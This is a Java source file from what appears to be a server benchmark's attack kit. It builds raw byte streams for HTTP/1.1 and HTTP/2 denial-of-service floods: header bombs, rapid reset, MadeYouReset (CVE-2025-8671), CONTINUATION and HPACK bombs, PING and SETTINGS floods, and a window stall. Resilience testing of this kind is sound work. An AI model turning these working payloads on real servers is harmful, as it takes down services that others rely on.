package io.lokstra.bench.attack;

import io.lokstra.testkit.internal.http2.Hpack;
import io.lokstra.testkit.internal.http2.Http2Frame;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

/** What a client of an attack sends, endlessly: the bytes of round after round. */
interface Flood {
  /** The bytes of a round; the first is 0. An empty array: hold the connection and send no more. */
  byte[] round(int round);

  /** Whether what the server says is read. */
  default boolean reads() {
    return true;
  }

  /** The attacks that are floods. */
  static Flood named(String name) {
    return switch (name) {
      case "header bomb" -> new HeaderBomb();
      case "rapid reset" -> round -> http2(round, Flood::rapidReset);
      case "MadeYouReset" -> round -> http2(round, Flood::madeYouReset);
      case "CONTINUATION flood" -> round -> http2(round, Flood::continuation);
      case "empty CONTINUATION flood" -> round -> http2(round, Flood::emptyContinuation);
      case "HPACK bomb" -> round -> http2(round, Flood::hpackBomb);
      case "fields of HTTP/2" -> round -> http2(round, Flood::manyFields);
      case "PING flood" -> new Unread(Flood::pings);
      case "SETTINGS flood" -> new Unread(Flood::settings);
      case "window stall" -> round -> round > 0 ? new byte[0] : stalled();
      default -> throw new IllegalArgumentException("no flood is named " + name);
    };
  }

  /** Bytes of a round of HTTP/2, where round 0 is behind the preface. */
  interface Round {
    void write(int round, ByteArrayOutputStream to);
  }

  /** Endless lines of a head. */
  final class HeaderBomb implements Flood {
    @Override
    public byte[] round(int round) {
      String lines = ("X-" + round + ": " + "v".repeat(100) + "\r\n").repeat(100);
      return ((round == 0 ? "GET / HTTP/1.1\r\nHost: a\r\n" : "") + lines)
          .getBytes(StandardCharsets.US_ASCII);
    }
  }

  /**
   * What wants answers and reads none.
   *
   * @param rounds what is sent
   */
  record Unread(Round rounds) implements Flood {
    @Override
    public byte[] round(int round) {
      return http2(round, rounds);
    }

    @Override
    public boolean reads() {
      return false;
    }
  }

  private static byte[] http2(int round, Round rounds) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    if (round == 0) {
      preface(out, new byte[0]);
    }
    rounds.write(round, out);
    return out.toByteArray();
  }

  private static void preface(ByteArrayOutputStream out, byte[] settings) {
    out.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
    frame(out, Http2Frame.SETTINGS, 0, 0, settings);
  }

  private static void frame(
      ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
    out.writeBytes(new Http2Frame(type, flags, stream, payload).octets());
  }

  private static byte[] get() {
    return Hpack.encode(
        List.of(
            Map.entry(":method", "GET"),
            Map.entry(":scheme", "http"),
            Map.entry(":path", "/plaintext"),
            Map.entry(":authority", "localhost")));
  }

  private static void rapidReset(int round, ByteArrayOutputStream out) {
    byte[] get = get();
    for (int i = 0; i < 100; i++) {
      int stream = 2 * (100 * round + i) + 1;
      frame(out, Http2Frame.HEADERS, 5, stream, get);
      frame(out, Http2Frame.RST_STREAM, 0, stream, Http2Frame.number(8));
    }
  }

  /**
   * Each request is made wrong so that the server resets it, while its handler runs
   * (CVE-2025-8671).
   */
  private static void madeYouReset(int round, ByteArrayOutputStream out) {
    byte[] get = get();
    for (int i = 0; i < 100; i++) {
      int stream = 2 * (100 * round + i) + 1;
      frame(out, Http2Frame.HEADERS, 5, stream, get);
      frame(out, Http2Frame.WINDOW_UPDATE, 0, stream, Http2Frame.number(0));
    }
  }

  private static void continuation(int round, ByteArrayOutputStream out) {
    if (round == 0) {
      frame(out, Http2Frame.HEADERS, 1, 1, get());
    }
    ByteArrayOutputStream fields = new ByteArrayOutputStream();
    for (int i = 0; i < 100; i++) {
      fields.writeBytes(Hpack.encode(List.of(Map.entry("x-" + round + "-" + i, "v".repeat(100)))));
    }
    frame(out, Http2Frame.CONTINUATION, 0, 1, fields.toByteArray());
  }

  private static void emptyContinuation(int round, ByteArrayOutputStream out) {
    if (round == 0) {
      frame(out, Http2Frame.HEADERS, 1, 1, get());
    }
    for (int i = 0; i < 1_000; i++) {
      frame(out, Http2Frame.CONTINUATION, 0, 1, new byte[0]);
    }
  }

  /** One field of 3,900 octets goes into the table; then each octet asks for it. */
  private static void hpackBomb(int round, ByteArrayOutputStream out) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(get());
    if (round == 0) {
      block.write(0x40);
      block.write(1);
      block.write('x');
      Hpack.number(block, 0, 127, 3_900);
      block.writeBytes("v".repeat(3_900).getBytes(StandardCharsets.US_ASCII));
    } else {
      block.writeBytes(("" + (char) 0xbe).repeat(16_000).getBytes(StandardCharsets.ISO_8859_1));
    }
    frame(out, Http2Frame.HEADERS, 5, 2 * round + 1, block.toByteArray());
  }

  private static void manyFields(int round, ByteArrayOutputStream out) {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(get());
    // ":status"-less and small: "age" with an empty value, by its index, two octets each.
    for (int i = 0; i < 8_000; i++) {
      block.write(0x0f);
      block.write(21 - 15);
      block.write(0);
    }
    byte[] all = block.toByteArray();
    int first = Math.min(16_384, all.length);
    frame(out, Http2Frame.HEADERS, 1, 2 * round + 1, java.util.Arrays.copyOf(all, first));
    frame(
        out,
        Http2Frame.CONTINUATION,
        4,
        2 * round + 1,
        java.util.Arrays.copyOfRange(all, first, all.length));
  }

  private static void pings(int round, ByteArrayOutputStream out) {
    for (int i = 0; i < 1_000; i++) {
      frame(out, Http2Frame.PING, 0, 0, new byte[8]);
    }
  }

  private static void settings(int round, ByteArrayOutputStream out) {
    for (int i = 0; i < 1_000; i++) {
      frame(out, Http2Frame.SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 1, (byte) i});
    }
  }

  /** A hundred answers, none of which the client lets come. */
  private static byte[] stalled() {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    preface(out, new byte[] {0, 4, 0, 0, 0, 0});
    byte[] get = get();
    for (int i = 0; i < 100; i++) {
      frame(out, Http2Frame.HEADERS, 5, 2 * i + 1, get);
    }
    return out.toByteArray();
  }
}
